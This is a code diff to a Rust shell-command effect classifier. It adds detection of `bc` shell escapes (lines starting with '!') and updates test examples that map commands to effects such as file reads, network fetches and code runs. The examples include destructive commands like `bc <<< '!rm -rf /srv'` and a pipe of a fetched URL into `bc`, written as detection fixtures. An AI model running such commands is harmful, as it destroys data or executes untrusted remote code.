@@ -3,6 +3,7 @@
 use super::python_run::{flowing, of_the_project};
 use super::shells::interactive;
 use crate::effects::shell::field::Field;
+use crate::effects::shell::given::Given;
 use crate::effects::shell::meaning;
 use crate::effects::shell::row::{Row, Style, row};
 use crate::effects::shell::run::Run;
@@ -111,14 +112,17 @@ pub(super) const ROWS: &[Row] = &[
     interpreter!("osascript jxa", "applescript", "osascript", "-e", "", "-i", "-l -s", "").examples(&[("osascript -e 'do shell script \"rm -rf /srv\"'", "code.run applescript"), ("osascript x.scpt", "process.run osascript")]),
     interpreter!("coffee livescript lsc gjs qjs d8 jsc rhino txiki tjs hermes", "javascript", "node", "-e --eval -c", "-r -I", "-p -b -t -s --bare", "-o", "-v --version -h --help").examples(&[("qjs -e 'x()'", "code.run javascript")]),
     interpreter!("vlang haxe pike io gforth forth pforth swipl gprolog prolog picat sml poly mosml smlnj gst racket-cgi haskell-script boa ballerina red rebol harbour euphoria", "unknown", "interpreter", "-e --eval eval -g -t", "-l -s --script -c", "-q -f", "-o", "-v --version -h --help").examples(&[("swipl -g 'shell(x)'", "code.run unknown")]),
-    row("bc", "gnu -h/info -i,--interactive -l,--mathlib -q,--quiet -s,--standard -w,--warn -v/info -S,--scale=word -e,--expression=code:bc -f,--file=run", "run*")
-        .input(crate::effects::shell::row::Input::Code("bc"))
+    row("bc", "gnu -h/info -i,--interactive -l,--mathlib -q,--quiet -s,--standard -w,--warn -v/info -S,--scale=word -e,--expression=word -f,--file=read", "read*")
+        .also(bc)
         .examples(&[
             ("echo '1+1' | bc -l", ""),
-            ("bc <<< '2^10'", ""),
+            ("bc <<< 'obase=16; 2^10'", ""),
             ("bc <<< '!rm -rf /srv'", "code.run bc"),
-            ("bc x.bc", "process.run /workspace/x.bc"),
-            ("frob | bc", "process.run frob; code.run bc"),
+            ("bc -e '!x'", "code.run bc"),
+            ("bc x.bc", "file.read /workspace/x.bc"),
+            ("paste -sd+ a.txt | bc", "file.read /workspace/a.txt"),
+            ("frob | bc", "process.run frob"),
+            ("curl https://h.example | bc", "net.fetch h.example; code.run bc"),
         ]),
     row("dc", "", "").style(Style::Raw).instead(dc).examples(&[
         ("dc -e '2 3 + p'", ""),
@@ -135,6 +139,20 @@ pub(super) const ROWS: &[Row] = &[
         ("java Main", "process.run java"),
     ]),
 ];
+
+/// The language computes and prints. On some systems a line that begins with `!` goes to a shell: one that stands in
+/// the text says so, and who wrote what was fetched nobody knows.
+fn bc(run: &mut Run<'_>, given: &Given) {
+    let escapes = |text: &str| text.lines().any(|line| line.trim_start().starts_with('!'));
+    let told = given.values("-e").any(|code| code.text().is_none_or(escapes));
+    let flows = match given.input.literal() {
+        Some(text) => escapes(text),
+        None => !given.input.local && run.out.asked().next().is_some(),
+    };
+    if told || flows {
+        run.effect(Action::CODE_RUN, Resource::Code { language: "bc".to_owned() });
+    }
+}
 
 fn is_one_of(list: &str, option: &str) -> bool {
     list.split(' ').any(|known| !known.is_empty() && known == option)
@@ -449,6 +467,7 @@ fn java(run: &mut Run<'_>, arguments: &[Field], _: Stream) -> Stream {
                 "-verbose",
                 "--enable-preview",
                 "-Xlog",
+                "-XshowSettings",
                 "-Xint",
                 "--enable-native-access",
                 "-d64",
